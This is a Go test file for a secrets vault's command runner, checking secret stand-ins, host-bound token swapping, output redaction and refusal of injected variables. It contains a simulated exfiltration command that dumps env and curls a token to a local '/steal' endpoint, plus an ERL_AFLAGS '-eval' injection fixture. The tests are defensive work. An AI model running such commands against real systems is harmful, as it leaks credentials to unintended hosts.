package run_test

import (
	"context"
	"encoding/hex"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/zavhoz/zavhoz/run"
	"github.com/zavhoz/zavhoz/vault"
	"github.com/zavhoz/zavhoz/vault/contract"
	"github.com/zavhoz/zavhoz/vault/fault"
	"github.com/zavhoz/zavhoz/vault/keyring"
	"github.com/zavhoz/zavhoz/vault/policy"
	"github.com/zavhoz/zavhoz/vault/secret"
	"github.com/zavhoz/zavhoz/vault/variable"
)

const (
	hubToken = "ghp_" + "Ab3Cd5Ef7Gh9Jk1Lm3Np5Qr7St9Uv1Wx3Yz5"
	jwtValue = "jwt-canary-4Qw8Er2Ty6Ui0Op3As7Df"
	pgValue  = "pg/canary+7Zx1Cv5Bn9Mk3Lp"
)

// shopEnvironment is Options.Environment: a project with secrets of every sort.
func shopEnvironment(t *testing.T, secrets map[string]string, entries string) func(context.Context, vault.Actor, vault.Resource) (vault.EnvironmentValues, error) {
	t.Helper()
	f, err := contract.Parse("f", []byte("version: \"1\"\nowner: o\nentries:\n"+entries))
	if err != nil {
		t.Fatal(err)
	}
	c, err := contract.Merge(f)
	if err != nil {
		t.Fatal(err)
	}
	return func(context.Context, vault.Actor, vault.Resource) (vault.EnvironmentValues, error) {
		facts := variable.Facts{ID: "prj_1", Slug: "shop", Stored: map[string]bool{}}
		out := vault.EnvironmentValues{Secrets: map[string]vault.SealedSecret{}}
		for name, value := range secrets {
			facts.Stored[name] = true
			out.Secrets[name] = vault.SealedSecret{Ref: keyring.Ref{Type: "project", ID: "prj_1", Field: name, Version: 1}, Sealed: "sealed:" + hex.EncodeToString([]byte(value))}
		}
		for _, r := range variable.Plan(variable.Definition{Contract: &c}, facts) {
			if !r.Hidden {
				out.Variables = append(out.Variables, r)
			}
		}
		return out, nil
	}
}

const shopEntries = `
  APP_NAME: {source: derived, environments: [production]}
  DATABASE_URL: {source: derived, environments: [production], template: "postgresql://app:${POSTGRES_PASSWORD:url}@db/${@slug}"}
  GITHUB_TOKEN: {source: user_secret, description: d, consumers: [a], environments: [production]}
  JWT_SECRET: {source: generated_secret, environments: [production]}
  OPENAI_API_KEY: {source: derived, environments: [production], template: "${GITHUB_TOKEN}"}
  POSTGRES_PASSWORD: {source: generated_secret, environments: [production]}
`

var shopSecrets = map[string]string{"GITHUB_TOKEN": hubToken, "JWT_SECRET": jwtValue, "POSTGRES_PASSWORD": pgValue}

// environmentHouse has the environment of a shop, whose GitHub is u.
func environmentHouse(t *testing.T, u *upstream, pins ...policy.Pin) (*house, *run.Engine) {
	env := shopEnvironment(t, shopSecrets, shopEntries)
	h, e := realHouse(t, func(o *run.Options) {
		o.Environment = env
		o.Secrets = func(_ context.Context, add func(string, secret.Secret)) error { // as the vault does: a project's secrets are among all others
			for name, value := range shopSecrets {
				add("shop."+name, secret.FromString(value))
			}
			return nil
		}
	})
	p := policy.Policy{Private: true, UpstreamCA: u.ca, Resolve: []string{"api.github.com=127.0.0.1"}, Hosts: []policy.HostRule{{Host: "api.github.com", Port: u.port}, {Host: upstreamHost, Port: u.port}}, Pins: pins}
	if len(pins) > 0 {
		p.Deliveries = []policy.Delivery{policy.Env}
	}
	h.keep("environment", "env_shop", map[string]string{"variables": "APP_NAME DATABASE_URL GITHUB_TOKEN JWT_SECRET OPENAI_API_KEY POSTGRES_PASSWORD"}, nil, p)
	return h, e
}

// A command of the caller's own gets what is no secret, and stand-ins for what the catalogue knows; the rest is left out, and said.
func TestAnEnvironmentByStandIns(t *testing.T) {
	eachUser(t, func(t *testing.T) {
		u := newUpstream(t, func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte("there")) })
		_, e := environmentHouse(t, u)
		r := request("bash", "-c", `env | sort; curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com:`+strconv.Itoa(u.port)+`/user; curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" `+u.url("/steal"))
		r.Refs = []string{"env_shop"}
		res := mustRun(t, e, r)
		for _, value := range []string{hubToken, jwtValue, pgValue} {
			clean(t, res, value)
		}
		if !strings.Contains(res.Stdout, "APP_NAME=shop\n") || !strings.Contains(res.Stdout, "GITHUB_TOKEN=ghp_") || !strings.Contains(res.Stdout, "there") {
			t.Errorf("%s\n%s", res.Stdout, res.Stderr)
		}
		for _, name := range []string{"JWT_SECRET=", "DATABASE_URL=", "POSTGRES_PASSWORD=", "OPENAI_API_KEY="} {
			if strings.Contains(res.Stdout, name) {
				t.Errorf("%s is set:\n%s", name, res.Stdout)
			}
		}
		if len(res.Hints) != 1 || !strings.HasSuffix(res.Hints[0].Text, "DATABASE_URL, JWT_SECRET, OPENAI_API_KEY, POSTGRES_PASSWORD") {
			t.Errorf("%+v", res.Hints)
		}
		if !u.saw("Authorization", "Bearer "+hubToken) {
			t.Error("the stand-in was not swapped at its own host")
		}
		if res.Delivered["env_shop"] != string(policy.Broker) {
			t.Errorf("%v", res.Delivered)
		}
		for _, h := range u.since(1) { // a host of the environment's policy that is not GitHub's
			if strings.Contains(h.Get("Authorization"), hubToken) {
				t.Error("the key went to another host")
			}
		}
	})
}

// A pinned command gets all of it, and nothing of it comes back.
func TestAnEnvironmentForAPinnedCommand(t *testing.T) {
	eachUser(t, func(t *testing.T) {
		u := newUpstream(t, func(w http.ResponseWriter, _ *http.Request) {})
		argv := []string{"/usr/bin/bash", "-c", `test "$JWT_SECRET" = ` + jwtValue + ` && test "$DATABASE_URL" = "postgresql://app:pg%2Fcanary%2B7Zx1Cv5Bn9Mk3Lp@db/shop" && test "$OPENAI_API_KEY" = "$GITHUB_TOKEN" && echo all of it; env`}
		_, e := environmentHouse(t, u, policy.Pin{Name: "deploy", Argv: argv})
		r := request(argv...)
		r.Refs = []string{"env_shop"}
		res := mustRun(t, e, r)
		if !strings.HasPrefix(res.Stdout, "all of it\n") || !strings.Contains(res.Stdout, "APP_NAME=shop") || res.Delivered["env_shop"] != string(policy.Env) {
			t.Errorf("%s\n%s", res.Stdout, res.Stderr)
		}
		for _, value := range []string{hubToken, jwtValue, pgValue, "pg%2Fcanary%2B7Zx1Cv5Bn9Mk3Lp"} {
			clean(t, res, value)
		}
	})
}

// A person's own run gets it too, with what is to be kept out of the output.
func TestAnEnvironmentForAPersonsOwnRun(t *testing.T) {
	u := newUpstream(t, func(w http.ResponseWriter, _ *http.Request) {})
	_, e := environmentHouse(t, u)
	plan, err := e.OpenPlan(context.Background(), person, []string{"env_shop"}, []string{"env", "X=" + jwtValue})
	if err != nil {
		t.Fatal(err)
	}
	defer plan.Wipe()
	got := map[string]string{}
	for _, it := range plan.Items {
		got[it.Name] = string(it.Value.Reveal())
	}
	if len(got) != 6 || got["JWT_SECRET"] != jwtValue || got["DATABASE_URL"] != "postgresql://app:pg%2Fcanary%2B7Zx1Cv5Bn9Mk3Lp@db/shop" || got["APP_NAME"] != "shop" {
		t.Errorf("%v", got)
	}
	labels := ""
	for _, l := range plan.Redact {
		labels += l.Label + " "
	}
	if !strings.Contains(labels, "env_shop.JWT_SECRET ") || strings.Contains(labels, "APP_NAME") {
		t.Error(labels)
	}
}

// Pieces of a database URL that a person gave; what has no such piece is refused, and not invented.
func TestPiecesOfAURL(t *testing.T) {
	const entries = `
  DATABASE_URL: {source: user_secret, description: d, consumers: [a], environments: [production]}
  PIECES: {source: derived, environments: [production], template: "${DATABASE_URL:username}|${DATABASE_URL:password}|${DATABASE_URL:host}|${DATABASE_URL:port}|${DATABASE_URL:database}|${DATABASE_URL:async}|${DATABASE_URL:sync}"}
`
	for url, want := range map[string]string{
		"postgres://me:p%40ss-word-1@db.example/app?sslmode=require":                    "me|p@ss-word-1|db.example|5432|app|postgresql+asyncpg://me:p%40ss-word-1@db.example/app?ssl=require|postgresql://me:p%40ss-word-1@db.example/app?sslmode=require",
		"postgresql+asyncpg://me:pass-word-1@h:1/app?timeout=5&ssl=verify-full":         "me|pass-word-1|h|1|app|postgresql+asyncpg://me:pass-word-1@h:1/app?timeout=5&ssl=verify-full|postgresql://me:pass-word-1@h:1/app?timeout=5&sslmode=verify-full",
		"postgresql://me:pass-word-1@h/app?channel_binding=require&sslmode=require&a=b": "me|pass-word-1|h|5432|app|postgresql+asyncpg://me:pass-word-1@h/app?ssl=require&a=b|postgresql://me:pass-word-1@h/app?channel_binding=require&sslmode=require&a=b",
		"postgresql://me:pass-word-1@h/app?channel_binding=require":                     "me|pass-word-1|h|5432|app|postgresql+asyncpg://me:pass-word-1@h/app|postgresql://me:pass-word-1@h/app?channel_binding=require",
		"postgresql://db.example/app":                                                   "",
		"mysql://me:password@db.example/app":                                            "",
		"not a url at all":                                                              "",
	} {
		env := shopEnvironment(t, map[string]string{"DATABASE_URL": url}, entries)
		h, e := realHouse(t, func(o *run.Options) { o.Environment = env })
		h.keep("environment", "env_shop", nil, nil, policy.Policy{})
		plan, err := e.OpenPlan(context.Background(), person, []string{"env_shop"}, []string{"env"})
		if want == "" {
			if fault.CodeOf(err) != fault.SecretInvalid || strings.Contains(err.Error(), "example") {
				t.Errorf("%s: %v", url, err)
			}
			continue
		}
		if err != nil || string(plan.Items[1].Value.Reveal()) != want {
			t.Errorf("%s: %v", url, err)
		}
	}
}

// TestAttack65_WhatAnEnvironmentIsMadeOfIsMasked: a run masks what it holds by itself, as the matcher of the whole vault does not: a value that is too fresh for that, and
// a variable that is put together.
func TestAttack65_WhatAnEnvironmentIsMadeOfIsMasked(t *testing.T) {
	const entries = `
  DATABASE_URL: {source: user_secret, description: d, consumers: [a], environments: [production]}
  POSTGRES_PASSWORD: {source: derived, environments: [production], template: "${DATABASE_URL:password}"}
`
	argv := []string{"/usr/bin/bash", "-c", `echo "$POSTGRES_PASSWORD"`}
	for url, want := range map[string]fault.Code{
		"postgres://me:fresh-pass-word-1@db.example/app": "",
		"postgres://me:short6@db.example/app":            fault.DeliveryRefused,
	} {
		env := shopEnvironment(t, map[string]string{"DATABASE_URL": url}, entries)
		h, e := realHouse(t, func(o *run.Options) { o.Environment = env })
		h.keep("environment", "env_shop", nil, nil, policy.Policy{Deliveries: []policy.Delivery{policy.Env}, Pins: []policy.Pin{{Name: "say", Argv: argv}}})
		r := request(argv...)
		r.Refs = []string{"env_shop"}
		res, err := e.Run(context.Background(), r)
		if fault.CodeOf(err) != want {
			t.Errorf("%v, want %q", err, want)
		}
		if strings.Contains(res.Stdout, "pass-word") || strings.Contains(res.Stdout, "short6") || want == "" && !strings.Contains(res.Stdout, "redacted") {
			t.Errorf("%q", res.Stdout)
		}
	}
}

// TestAttack55_ANarrowedEnvironmentReachesNothingElse: where a person allowed an environment some hosts and none is a key's own, the key has no stand-in.
func TestAttack55_ANarrowedEnvironmentReachesNothingElse(t *testing.T) {
	env := shopEnvironment(t, shopSecrets, shopEntries)
	h, e := realHouse(t, func(o *run.Options) { o.Environment = env })
	h.keep("environment", "env_shop", nil, nil, policy.Policy{Hosts: []policy.HostRule{{Host: "other.example.org"}}})
	r := request("bash", "-c", "echo token=$GITHUB_TOKEN")
	r.Refs = []string{"env_shop"}
	if res := mustRun(t, e, r); res.Stdout != "token=\n" || len(res.Hints) != 1 || !strings.Contains(res.Hints[0].Text, "GITHUB_TOKEN") {
		t.Errorf("%q %+v", res.Stdout, res.Hints)
	}
}

// TestAttack23_AnEnvironmentSteersNothing: a definition from before the rule is refused where it would be held.
func TestAttack23_AnEnvironmentSteersNothing(t *testing.T) {
	argv := []string{"/usr/bin/true"}
	h, e := realHouse(t, func(o *run.Options) {
		o.Environment = func(context.Context, vault.Actor, vault.Resource) (vault.EnvironmentValues, error) {
			return vault.EnvironmentValues{Variables: []variable.Resolved{{Name: "ERL_AFLAGS", State: variable.Written, Parts: []variable.Part{{Text: "-eval x"}}}}}, nil
		}
	})
	h.keep("environment", "env_shop", nil, nil, policy.Policy{Deliveries: []policy.Delivery{policy.Env}, Pins: []policy.Pin{{Name: "say", Argv: argv}}})
	r := request(argv...)
	r.Refs = []string{"env_shop"}
	if _, err := e.Run(context.Background(), r); fault.CodeOf(err) != fault.DeliveryRefused {
		t.Errorf("%v", err)
	}
}

// TestAttack60_AnEnvironmentIsOfOneMoment: another daemon changes the project while a run begins. What is masked is what the command was given, for it is read once.
func TestAttack60_AnEnvironmentIsOfOneMoment(t *testing.T) {
	const entries = `
  JWT_SECRET: {source: generated_secret, environments: [production]}
`
	argv := []string{"/usr/bin/bash", "-c", `echo "$JWT_SECRET"`}
	reads := 0
	h, e := realHouse(t, func(o *run.Options) {
		o.Environment = func(ctx context.Context, a vault.Actor, r vault.Resource) (vault.EnvironmentValues, error) {
			reads++
			return shopEnvironment(t, map[string]string{"JWT_SECRET": "value-of-moment-" + strconv.Itoa(reads)}, entries)(ctx, a, r)
		}
	})
	h.keep("environment", "env_shop", nil, nil, policy.Policy{Deliveries: []policy.Delivery{policy.Env}, Pins: []policy.Pin{{Name: "say", Argv: argv}}})
	r := request(argv...)
	r.Refs = []string{"env_shop"}
	if res := mustRun(t, e, r); strings.Contains(res.Stdout, "moment") || !strings.Contains(res.Stdout, "redacted") || reads != 1 {
		t.Errorf("%q after %d reads", res.Stdout, reads)
	}
}
